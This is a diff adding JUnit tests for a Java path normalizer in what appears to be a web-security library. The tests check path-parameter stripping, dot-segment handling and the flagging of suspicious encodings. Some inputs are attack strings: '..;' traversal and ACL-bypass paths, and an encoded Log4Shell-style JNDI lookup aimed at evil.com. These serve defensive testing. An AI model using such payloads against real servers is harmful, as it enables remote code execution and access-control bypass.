@@ -9,6 +9,7 @@ import static dev.bulwark.core.DecodingFlag.OVERLONG_UTF8;
 import static dev.bulwark.core.DecodingFlag.PATH_ABOVE_ROOT;
 import static dev.bulwark.core.DecodingFlag.PERCENT_U_ENCODING;
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.tuple;
 import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
 
 import dev.bulwark.core.internal.decode.PathNormalizer.NormalizedPath;
@@ -151,6 +152,88 @@ class PathNormalizerTest {
         assertTimeoutPreemptively(Duration.ofSeconds(10), () -> {
             for (String input : inputs) {
                 assertThat(normalizer.normalize(input).path()).startsWith("/");
+            }
+        });
+    }
+    @Test
+    void cutsPathParametersFromEverySegmentOfTheRoutingPath() {
+        assertThat(normalizer.normalize("/admin;x/y").routingPath()).isEqualTo("/admin/y");
+        assertThat(normalizer.normalize("/a;b=c/d;jsessionid=1").routingPath()).isEqualTo("/a/d");
+    }
+
+    @Test
+    void keepsPathParametersInTheInspectedPath() {
+        assertThat(normalizer.normalize("/admin;x/y").path()).isEqualTo("/admin;x/y");
+    }
+
+    @Test
+    void listsTheParametersOfEverySegmentDecoded() {
+        NormalizedPath path = normalizer.normalize("/a;one/b/c;two%3Dthree");
+
+        assertThat(path.parameters()).extracting(PathNormalizer.PathParameter::segment, PathNormalizer.PathParameter::decoded)
+                .containsExactly(tuple(0, "one"), tuple(2, "two=three"));
+    }
+
+    @Test
+    void listsTheParametersOfDroppedDotSegments() {
+        NormalizedPath path = normalizer.normalize("/t/..;%24%7Bjndi:ldap:%2F%2Fevil.com%2Fa%7D/y");
+
+        assertThat(path.routingPath()).isEqualTo("/y");
+        assertThat(path.parameters()).singleElement().satisfies(parameter -> {
+            assertThat(parameter.segment()).isEqualTo(1);
+            assertThat(parameter.decoded()).isEqualTo("${jndi:ldap://evil.com/a}");
+        });
+    }
+
+    @Test
+    void resolvesDotSegmentsAndCollapsesEmptySegmentsInTheRoutingPath() {
+        assertThat(normalizer.normalize("/account/x/../admin/y").routingPath()).isEqualTo("/account/admin/y");
+        assertThat(normalizer.normalize("/admin//x").routingPath()).isEqualTo("/admin/x");
+        assertThat(normalizer.normalize("/admin/./x/").routingPath()).isEqualTo("/admin/x/");
+    }
+
+    @Test
+    void decodesTheRoutingPathOnceAsContainersDo() {
+        NormalizedPath path = normalizer.normalize("/a/%252e%252e/b");
+
+        assertThat(path.routingPath()).isEqualTo("/a/%2e%2e/b");
+        assertThat(path.suspicious()).isNull();
+    }
+
+    @Test
+    void readsAnEncodedSemicolonAsPartOfTheSegmentName() {
+        NormalizedPath path = normalizer.normalize("/a%3Bb/c");
+
+        assertThat(path.routingPath()).isEqualTo("/a;b/c");
+        assertThat(path.parameters()).isEmpty();
+    }
+
+    @Test
+    void findsNothingSuspiciousInOrdinaryPathParameters() {
+        assertThat(normalizer.normalize("/shop/cart;jsessionid=ABC/items").suspicious()).isNull();
+    }
+
+    @Test
+    void findsTheSequencesServlet6RejectsSuspicious() {
+        assertThat(normalizer.normalize("/a%2Fb").suspicious()).isEqualTo(SuspiciousPath.ENCODED_SLASH);
+        assertThat(normalizer.normalize("/a%5Cb").suspicious()).isEqualTo(SuspiciousPath.BACKSLASH);
+        assertThat(normalizer.normalize("/a\\b").suspicious()).isEqualTo(SuspiciousPath.BACKSLASH);
+        assertThat(normalizer.normalize("/a%00b").suspicious()).isEqualTo(SuspiciousPath.CONTROL_CHARACTER);
+        assertThat(normalizer.normalize("/a/%2e%2e/b").suspicious()).isEqualTo(SuspiciousPath.ENCODED_DOT_SEGMENT);
+        assertThat(normalizer.normalize("/a/.%2E/b").suspicious()).isEqualTo(SuspiciousPath.ENCODED_DOT_SEGMENT);
+        assertThat(normalizer.normalize("/a/.;x/b").suspicious()).isEqualTo(SuspiciousPath.DOT_SEGMENT_WITH_PARAMETERS);
+        assertThat(normalizer.normalize("/a/..;/b").suspicious()).isEqualTo(SuspiciousPath.DOT_SEGMENT_WITH_PARAMETERS);
+        assertThat(normalizer.normalize("/a//../b").suspicious()).isEqualTo(SuspiciousPath.DOT_DOT_AFTER_EMPTY_SEGMENT);
+        assertThat(normalizer.normalize("/a/../../b").suspicious()).isEqualTo(SuspiciousPath.ABOVE_ROOT);
+    }
+
+    @Test
+    void routesAdversarialMegabytePathsInLinearTime() {
+        int size = 1 << 20;
+        String[] inputs = {";".repeat(size), "/a;".repeat(size / 3), "/..;x".repeat(size / 5)};
+        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> {
+            for (String input : inputs) {
+                assertThat(normalizer.normalize(input).routingPath()).startsWith("/");
             }
         });
     }
